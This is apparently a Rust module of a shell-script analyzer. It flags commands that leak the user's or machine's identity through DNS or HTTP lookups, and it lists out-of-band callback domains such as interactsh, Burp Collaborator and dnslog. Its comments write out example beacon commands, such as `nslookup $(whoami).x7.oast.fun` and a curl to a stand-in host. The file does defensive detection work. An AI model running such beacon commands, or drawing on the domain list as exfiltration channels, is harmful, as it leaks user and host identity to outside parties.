//! Identity beacons: a name lookup or request whose host name carries who runs it
//! (`nslookup $(whoami).x7.oast.fun`, `ping -c1 $(id -u).$(hostname).cb.example`, `curl
//! http://$(whoami).cb.example/`), or any host under an out-of-band callback service
//! (interactsh, Burp Collaborator, dnslog): how an injected agent proves it ran and leaks the user
//! and the machine through DNS. Secrets in a lookup are `exfil.secret-*`; a host name from
//! `$(hostname)` alone (`nslookup $(hostname).corp.net`) is ordinary diagnostics.

use super::vocab::DNS_LOOKUPS;
use super::Hit;
use crate::shell::ir::{Command, Word};
use crate::shell::Script;

/// Programs besides the DNS lookup tools ([`DNS_LOOKUPS`]) that resolve (and so send to a DNS
/// server) a host name they are given.
const RESOLVING: &[&str] = &[
    "ping",
    "ping6",
    "getent",
    "resolvectl",
    "traceroute",
    "traceroute6",
    "tracepath",
    "mtr",
    "fping",
    "arping",
    "curl",
    "wget",
    "nc",
    "ncat",
    "telnet",
    "http",
    "https",
    "xh",
];

/// Out-of-band interaction services: every name under them reports its lookups to whoever asked.
const CALLBACK_DOMAINS: &[&str] = &[
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "interact.sh",
    "interactsh.com",
    "burpcollaborator.net",
    "oastify.com",
    "dnslog.cn",
    "dnslog.link",
    "ceye.io",
    "canarytokens.com",
    "requestrepo.com",
    "xss.ht",
    "bxss.me",
];

/// Commands that print who is running the input.
const IDENTITY: &[&str] = &["whoami", "id", "logname", "users"];

/// Run the analyzer.
pub fn analyze(script: &Script) -> Vec<Hit> {
    let mut hits = Vec::new();
    for cmd in &script.commands {
        if !RESOLVING.contains(&cmd.name()) && !DNS_LOOKUPS.contains(&cmd.name()) {
            continue;
        }
        for w in cmd.args() {
            let Some(host) = host_of(&w.text) else {
                continue;
            };
            let callback = CALLBACK_DOMAINS
                .iter()
                .any(|d| crate::text::dotted_tail(&host, d));
            let in_host = host.contains('$');
            if callback
                || (in_host && carries_identity(script, w) && host_after_substitution(&host))
            {
                hits.push(hit(cmd, &host, callback));
                break;
            }
        }
    }
    hits
}

fn hit(cmd: &Command, host: &str, callback: bool) -> Hit {
    let why = if callback {
        "an out-of-band callback service"
    } else {
        "a name built from who runs this"
    };
    Hit {
        rule_id: "exfil.identity-beacon",
        span: cmd.span,
        detail: Some(format!("`{}` looks up `{host}`: {why}", cmd.name())),
    }
}

/// The host name a word gives: a URL's host, or the word itself when it looks like a name.
fn host_of(text: &str) -> Option<String> {
    let rest = text.split_once("://").map_or(text, |(_, r)| r);
    let rest = rest.rsplit_once('@').map_or(rest, |(_, r)| r);
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit_once(':').map_or(host, |(h, port)| {
        if port.chars().all(|c| c.is_ascii_digit()) {
            h
        } else {
            host
        }
    });
    (!text.starts_with('-') && host.contains('.')).then(|| host.to_ascii_lowercase())
}

/// The name goes on past what the substitution printed to a domain of its own (`….x.example`):
/// after the last substitution (or the user's name it was read as) come two more labels.
fn host_after_substitution(host: &str) -> bool {
    let tail = host.rfind([')', '}']).map_or(host, |i| &host[i + 1..]);
    tail.matches('.').count() >= 2
}

/// The word holds the user's name (`$USER`, and `$(whoami)`, which the shell layer reads as it)
/// or a substitution that prints the user's name or id.
fn carries_identity(script: &Script, w: &Word) -> bool {
    let named = ["$USER", "${USER}", "$LOGNAME", "${LOGNAME}"];
    named.iter().any(|n| w.text.contains(n))
        || w.subs.iter().any(|&s| {
            script.commands_within(s).any(|c| {
                IDENTITY.contains(&c.name())
                    || (c.name() == "echo"
                        && c.args()
                            .iter()
                            .any(|a| a.text.contains("$USER") || a.text.contains("$LOGNAME")))
            })
        })
}
